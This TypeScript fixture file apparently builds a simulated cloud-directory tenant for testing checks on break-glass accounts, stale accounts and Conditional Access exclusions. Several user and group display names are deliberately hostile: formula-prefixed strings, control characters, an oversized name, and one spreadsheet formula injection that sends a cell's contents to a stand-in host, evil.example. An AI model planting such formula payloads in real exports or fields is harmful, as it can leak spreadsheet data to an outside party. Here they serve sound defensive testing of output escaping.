// Admin plan features for the account-hygiene controls: break-glass accounts, stale and almost-stale accounts
// (ID-09), and the users and nested groups that Conditional Access policies exclude (ID-07, ID-08). Several carry
// hostile display names on purpose (formula prefixes, characters invalid in XML, 40,000 characters, RTL, emoji).
import { PlanBuilder, userPrincipal } from './plan-builder';
import { PRIVILEGED_ROLE_ADMINISTRATOR } from './role-definitions';

/** A display name longer than any spreadsheet cell (32,767) and most UI limits. */
export const LONG_DISPLAY_NAME = `Guest ${'Ω long name '.repeat(4000)}`.slice(0, 40_000);

/**
 * Two emergency access accounts: cloud-only, unlicensed, registered (FIDO2), rarely used (stale, which ID-09
 * exempts), holding Privileged Role Administrator permanently (which ID-03 exempts). See admin-plan.ts for why not GA.
 */
export function breakGlassAccounts(plan: PlanBuilder): void {
  const accounts = [
    plan.addNaturalUser('break-glass-1', 'registered', {
      breakGlass: true,
      displayName: 'Emergency Access Account 1',
      createdDaysAgo: 1200,
      onPremisesSyncEnabled: null,
      signIn: { interactive: 200, nonInteractive: 'null', successful: 200 },
    }),
    plan.addNaturalUser('break-glass-2', 'registered', {
      breakGlass: true,
      displayName: 'Emergency Access Account 2',
      createdDaysAgo: 1200,
      onPremisesSyncEnabled: null,
      signIn: 'none',
    }),
  ];
  for (const index of accounts) plan.hold(PRIVILEGED_ROLE_ADMINISTRATOR, userPrincipal(index), 'active');
}

/**
 * ID-09 at staleDays 90: five stale enabled members (never signed in with signInActivity null, all three dates
 * year one, only old dates, a null createdDateTime, 91.5 days) and near misses that must not be findings (89.5
 * days, a recent non-interactive sign-in only, created 30 days ago, a stale guest, a stale disabled member).
 */
export function staleAccounts(plan: PlanBuilder): void {
  const stale = (label: string, traits: Parameters<PlanBuilder['addNaturalUser']>[2]): void => {
    plan.addNaturalUser(label, 'notRegistered', traits);
    plan.declared.staleMembers.push(label);
  };
  stale('stale-member-never-signed-in', {
    displayName: '=HYPERLINK("https://evil.example/?x="&A1,"Open me")',
    createdDaysAgo: 400,
    signIn: 'none',
  });
  stale('stale-member-year-one', {
    displayName: '+Stale since 0001',
    createdDaysAgo: 800,
    signIn: { interactive: 'yearOne', nonInteractive: 'yearOne', successful: 'yearOne' },
  });
  stale('stale-member-old-sign-ins', {
    displayName: '-Former contractor',
    createdDaysAgo: 900,
    signIn: { interactive: 200, nonInteractive: 150, successful: 'yearOne' },
  });
  stale('stale-member-null-created', {
    displayName: '@Migrated account',
    createdDaysAgo: null,
    signIn: { interactive: 120, nonInteractive: 'null', successful: 120 },
  });
  stale('stale-member-91-days', {
    displayName: 'Bell\u0001 and noncharacter \uFFFE',
    createdDaysAgo: 365,
    signIn: { interactive: 91.5, nonInteractive: 95, successful: 91.5 },
  });

  plan.addNaturalUser('active-member-89-days', 'registered', {
    createdDaysAgo: 365,
    signIn: { interactive: 89.5, nonInteractive: 'null', successful: 'yearOne' },
  });
  plan.addNaturalUser('active-member-non-interactive-only', 'registered', {
    displayName: 'ليلى 🌙 Haddad',
    createdDaysAgo: 500,
    signIn: { interactive: 300, nonInteractive: 2, successful: 'yearOne' },
  });
  plan.addNaturalUser('new-member-never-signed-in', 'notRegistered', { createdDaysAgo: 30, signIn: 'none' });
  plan.addNaturalUser('stale-guest', 'notRegistered', {
    userType: 'Guest',
    createdDaysAgo: 600,
    signIn: 'none',
  });
  plan.addNaturalUser('stale-disabled-member', 'notRegistered', {
    accountEnabled: false,
    createdDaysAgo: 600,
    signIn: { interactive: 400, nonInteractive: 'null', successful: 400 },
  });
}

/**
 * Users that Conditional Access policies exclude, directly or through nested security groups (three levels), and
 * the emergency access group. conditional-access.ts decides which policy excludes what.
 */
export function conditionalAccessExclusions(plan: PlanBuilder): void {
  const serviceAccount = plan.addNaturalUser('svc-legacy-app', 'notRegistered', {
    displayName: 'svc-legacy-app (no MFA)',
  });
  const directMember = plan.addNaturalUser('ca-excluded-direct-member', 'registered', {
    displayName: '-Excluded from Conditional Access',
  });
  const guest = plan.addNaturalUser('ca-excluded-guest', 'notRegistered', {
    userType: 'Guest',
    displayName: LONG_DISPLAY_NAME,
  });
  const disabled = plan.addNaturalUser('ca-excluded-disabled', 'notRegistered', { accountEnabled: false });
  const nested1 = plan.addNaturalUser('ca-nested-member-1', 'registered', {
    displayName: 'مدير الحسابات 🧑‍💼 (nested)',
  });
  const nested2 = plan.addNaturalUser('ca-nested-member-2', 'registered', { displayName: '+Nested twice' });
  const breakGlass = plan.users.filter((user) => user.breakGlass).map((user) => user.index);

  plan.makeGroup('ca-exclusions-deep', '-Legacy Apps \u0001', 'Nested two levels below the CA exclusions', {
    users: [nested2, disabled],
  });
  plan.makeGroup('ca-exclusions-nested', '+Service Accounts', 'Nested in the CA exclusions group', {
    users: [nested1, serviceAccount],
    groups: ['ca-exclusions-deep'],
  });
  plan.makeGroup('ca-exclusions', '=CA Exclusions', 'Excluded from MFA policies (reviewed yearly)', {
    users: [directMember, guest, disabled, ...breakGlass.slice(1)],
    groups: ['ca-exclusions-nested'],
  });
  plan.makeGroup('emergency-access', '@Emergency Access', 'Break-glass accounts', {
    users: [...breakGlass, disabled],
  });
}
